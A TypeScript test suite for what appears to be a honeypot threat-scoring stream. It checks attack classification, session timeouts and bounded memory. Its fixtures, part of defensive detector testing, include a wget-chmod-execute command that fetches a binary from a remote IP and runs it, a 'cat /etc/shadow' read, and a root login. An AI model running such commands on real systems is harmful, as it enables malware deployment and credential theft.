import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { DraftEvent } from '../../src/core/event.ts';
import { openLocalScorer } from '../../src/score/local.ts';
import { createScoreStream, type SessionLine } from '../../src/score/stream.ts';
import { command, draft, request } from '../support/score/events.ts';

const scorer = openLocalScorer({ onWarning: assert.fail });
const time = (seconds: number): string =>
  new Date(Date.parse('2026-11-25T08:00:00.000Z') + seconds * 1000).toISOString();

function run(events: readonly DraftEvent[], options: object = {}) {
  const stream = createScoreStream({ scorer, sessions: true, ...options });
  const lines: (string | SessionLine)[] = [];
  for (const event of events) {
    const { verdict, ended } = stream.take(event);
    lines.push(`${verdict.risk_score} ${verdict.attack_type}`, ...ended);
  }
  lines.push(...stream.end());
  return lines;
}
const sessionsOf = (lines: (string | SessionLine)[]): SessionLine[] =>
  lines.filter((line): line is SessionLine => typeof line !== 'string');

describe('a stream of events', () => {
  it('becomes one verdict each in order, and a session’s line when it ends', () => {
    const more = (seconds: number) => ({ session: 'a', timestamp: time(seconds) });
    const lines = run([
      draft('connection.opened', more(0)),
      draft('login.succeeded', { ...more(1), payload: 'root:1234' }),
      command('uname -a; cat /proc/cpuinfo | wc -l', more(2)),
      command('wget http://198.51.100.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x', more(3)),
      draft('connection.closed', more(4)),
      request('GET / HTTP/1.1', { timestamp: time(5), source_ip: '198.51.100.1' }),
    ]);
    assert.deepEqual(
      lines.map((line) => (typeof line === 'string' ? line.split(' ')[1] : line.session)),
      ['Recon', 'CredentialAccess', 'Recon', 'MalwareDeployment', 'Normal', 'a', 'Normal'],
    );
    const [session] = sessionsOf(lines);
    assert.equal(session!.attack_type, 'MalwareDeployment');
    assert.ok(session!.risk_score >= 8);
    assert.ok(session!.reasons.length > 1 && session!.reasons.length <= 8);
    assert.deepEqual(session!.statements, [
      { text: 'uname -a', tactic: 'Discovery' },
      { text: 'cat /proc/cpuinfo', tactic: 'Discovery' },
      { text: 'wc -l', tactic: 'Discovery' },
      { text: 'wget http://198.51.100.7/x -O /tmp/x', tactic: 'Execution' },
      { text: 'chmod +x /tmp/x', tactic: 'Execution' },
      { text: '/tmp/x', tactic: 'Execution' },
    ]);
  });

  it('ends sessions at the end of the input, oldest first, and after half an hour of silence', () => {
    const lines = run([
      command('id', { session: 'a', timestamp: time(0) }),
      command('id', { session: 'b', timestamp: time(10) }),
      command('id', { session: 'c', timestamp: time(1_805) }),
    ]);
    assert.deepEqual(
      lines.map((line) => (typeof line === 'string' ? '-' : line.session)),
      ['-', '-', '-', 'a', 'b', 'c'],
    );
  });

  it('says nothing of sessions in which nothing happened, nor where sessions are not wanted', () => {
    const quiet = [
      draft('client.identified', { session: 'a' }),
      draft('connection.closed', { session: 'a' }),
      draft('sensor.message', { session: 'a' }),
    ];
    assert.deepEqual(sessionsOf(run(quiet)), []);
    assert.deepEqual(sessionsOf(run([command('id', { session: 'b' })], { sessions: false })), []);
  });

  it('tells sources apart', () => {
    const guess = (source_ip: string, seconds: number) =>
      draft('login.failed', { source_ip, timestamp: time(seconds) });
    const stream = createScoreStream({ scorer });
    let last = 0;
    for (let at = 0; at < 40; at += 1) last = stream.take(guess('198.51.100.1', at)).verdict.risk_score;
    assert.ok(last >= 8);
    assert.ok(stream.take(guess('198.51.100.2', 41)).verdict.risk_score < 5);
  });

  it('forgets failures that are more than an hour old', () => {
    const stream = createScoreStream({ scorer });
    for (let at = 0; at < 40; at += 1) stream.take(draft('login.failed', { timestamp: time(at) }));
    assert.ok(stream.take(draft('login.failed', { timestamp: time(7_300) })).verdict.risk_score < 5);
  });

  it('keeps a bounded number of sessions and sources: the oldest end first', () => {
    const stream = createScoreStream({ scorer, sessions: true, maxSessions: 10, maxSources: 10 });
    const ended: string[] = [];
    for (let at = 0; at < 100; at += 1) {
      const event = command('id', { session: `s${at}`, source_ip: `10.0.0.${at}`, timestamp: time(at) });
      ended.push(...stream.take(event).ended.map(({ session }) => session));
    }
    assert.equal(ended.length, 89);
    assert.equal(ended[0], 's0');
    assert.equal(stream.end().length, 11);
  });

  it('cuts what is told of an endless session, not what is judged of it', () => {
    const stream = createScoreStream({ scorer, sessions: true });
    for (let at = 0; at < 60; at += 1)
      stream.take(command(`echo ${'x'.repeat(5_000)}`, { session: 'a', timestamp: time(at) }));
    const { verdict } = stream.take(command('cat /etc/shadow', { session: 'a', timestamp: time(99) }));
    assert.ok(verdict.risk_score >= 7);
    const [line] = stream.end();
    assert.ok(line!.statements.length < 30);
    assert.ok(line!.risk_score >= 7);
  });
});
